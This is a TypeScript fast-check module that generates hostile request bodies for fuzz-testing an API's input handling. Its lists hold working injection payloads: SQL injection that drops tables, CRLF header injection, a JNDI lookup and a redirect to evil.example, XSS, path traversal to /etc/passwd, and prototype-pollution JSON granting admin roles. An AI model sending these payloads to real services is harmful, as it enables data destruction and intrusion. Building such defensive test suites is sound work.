/**
 * fast-check arbitraries for hostile request bodies: values in and far outside the documented
 * schemas, and raw bodies that are not JSON at all.
 */
import fc from 'fast-check';

/** Strings that have broken other services: injections, control characters, odd Unicode. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  '\t',
  "' OR '1'='1' --",
  "'); DROP TABLE users; --",
  '"; DELETE FROM tenants WHERE "1"="1',
  '1; SELECT pg_sleep(10)',
  "admin'--@example.com",
  'x\r\nSet-Cookie: session=stolen',
  'x\r\n\r\nHTTP/1.1 200 OK',
  '%0d%0aLocation:%20http://evil.example',
  '\u0000',
  'nul\u0000inside',
  '\u0007\u0008\u001b[31m',
  '\u007f\u0085\u009f',
  '\u2028\u2029',
  '\ufeff',
  '\ud800',
  'lone\udc00surrogate',
  '\u202eevil\u202c',
  'ｓａｍｅ@ｅｘａｍｐｌｅ.ｃｏｍ',
  'İstanbul',
  'straße',
  '👩‍👩‍👧‍👦',
  'a\u0301\u0301\u0301\u0301',
  '<script>alert(1)</script>',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  '-1',
  '9'.repeat(400),
  'a'.repeat(256),
  'a'.repeat(4097),
  `${'a'.repeat(250)}@example.com`,
  `x@${'a'.repeat(64)}.example.com`,
  'user@example.com\u0000.evil',
  'user@localhost',
  'user@[127.0.0.1]',
  '"quoted"@example.com',
  'user+tag@example.com',
];

export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.nat({ max: 70_000 }).map((n) => 'x'.repeat(n)) },
);

/** Numbers a JSON body can carry, in range and far out of it. */
export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.constantFrom(0, -0, -1, 1, 2 ** 31, 2 ** 53, -(2 ** 53), Number.MAX_SAFE_INTEGER + 2, 1e308, -1e308, 5e-324, 0.5),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Any JSON value at all, of any type, nested a little. */
export const anyJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileString, tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** A valid email address, mostly new (so that creates succeed), sometimes repeated (duplicates). */
export const validEmail = fc.oneof(
  { weight: 6, arbitrary: fc.tuple(fc.nat({ max: 1e9 }), fc.constantFrom('example.com', 'example.org', 'EXAMPLE.net')).map(([n, d]) => `h${n}@${d}`) },
  { weight: 1, arbitrary: fc.constantFrom('dup@example.com', 'DUP@example.com', 'ｄｕｐ@example.com') },
);

export const email = fc.oneof({ weight: 4, arbitrary: validEmail }, { weight: 2, arbitrary: hostileString }, { weight: 1, arbitrary: anyJson });

/**
 * A password: mostly absent or refused before hashing (too short, wrong type), rarely one
 * that passes the policy — hashing is the slow part and is not what is under test here.
 */
export const password = fc.oneof(
  { weight: 10, arbitrary: fc.constant(undefined) },
  { weight: 4, arbitrary: fc.constantFrom('short', 'x', '', 'passw0rd') },
  { weight: 2, arbitrary: anyJson.filter((v) => typeof v !== 'string') },
  { weight: 1, arbitrary: fc.constant('Quartz-Lantern-8841') },
);

/** A field's value: usually one the documentation allows, often anything else. */
export function field<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: hostileString }, { weight: 1, arbitrary: anyJson });
}

/** Keys a client should not send: unknown names, prototype names, case variants. */
export const hostileKey = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'isAdmin', 'id', 'tenantId', 'passwordHash', 'role', 'number'), fc.string({ maxLength: 12 }));

/**
 * An object with the given fields, each present or absent, plus sometimes unknown keys. Built
 * with defineProperty so that a `__proto__` key is an own property that JSON.stringify writes.
 */
export function record(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(
      fc.record(fields, { requiredKeys: [] }),
      fc.oneof({ weight: 4, arbitrary: fc.constant([] as [string, unknown][]) }, { weight: 1, arbitrary: fc.array(fc.tuple(hostileKey, anyJson), { maxLength: 3 }) }),
    )
    .map(([known, extra]) => {
      const out: Record<string, unknown> = {};
      for (const [k, v] of [...Object.entries(known), ...extra]) {
        if (v !== undefined) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
      }
      return out;
    });
}

/** A request body as bytes, with the content type it is sent under. */
export interface RawBody {
  payload: string | Buffer;
  contentType: string | undefined;
}

/** Bodies that are not (valid) JSON, or are JSON built to hurt a parser. */
export const rawHostileBody: fc.Arbitrary<RawBody> = fc.oneof(
  fc.nat({ max: 5000 }).map((n) => ({ payload: `${'['.repeat(n)}${']'.repeat(n)}`, contentType: 'application/json' })),
  fc.nat({ max: 3000 }).map((n) => ({ payload: `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`, contentType: 'application/json' })),
  fc.constant({ payload: '['.repeat(200_000), contentType: 'application/json' }),
  fc.uint8Array({ minLength: 1, maxLength: 64 }).map((bytes) => ({
    payload: Buffer.concat([Buffer.from('{"email":"'), Buffer.from(bytes), Buffer.from('@example.com","firstName":"A","lastName":"B","contactEmail":"a@example.com"}')]),
    contentType: 'application/json',
  })),
  fc.constantFrom(
    Buffer.from([0x7b, 0x22, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
    Buffer.from([0xc3, 0x28]),
    Buffer.from([0xed, 0xa0, 0x80]),
    Buffer.from('\ufeff{"email":"bom@example.com"}'),
  ).map((payload) => ({ payload, contentType: 'application/json' })),
  fc.constantFrom(
    '',
    ' ',
    'null',
    'true',
    '0',
    '"just a string"',
    '1e999999',
    '{"email":1e999999}',
    '{"users":[{"email":-1e999999}]}',
    '{',
    '{"email":',
    '{"email":"a@example.com"',
    '{"email":"a@example.com"}}',
    '[{"email":"a@example.com"},]',
    "{'email':'a@example.com'}",
    '{"email":"a@example.com","email":"b@example.com"}',
    '{"__proto__":{"isAdmin":true},"email":"proto@example.com"}',
    '{"constructor":{"prototype":{"polluted":true}},"email":"ctor@example.com"}',
    '[{"__proto__":{"role":"global-admin"},"email":"p2@example.com"}]',
    '{"users":[{"__proto__":{"x":1},"email":"p3@example.com"}]}',
    '{"email":"a@example.com"}\u0000',
    '\u0000',
    '{"email":"\\ud800@example.com"}',
    '{"email":"\\u0000@example.com"}',
    '{"firstName":"\\u0000","lastName":"\\u0000","contactEmail":"nul@example.com"}',
  ).map((payload) => ({ payload, contentType: 'application/json' })),
  fc.tuple(fc.string({ maxLength: 60 }), fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', 'application/jsonx', 'APPLICATION/JSON')).map(
    ([payload, contentType]) => ({ payload, contentType }),
  ),
  fc.string({ maxLength: 60 }).map((payload) => ({ payload, contentType: undefined })),
);
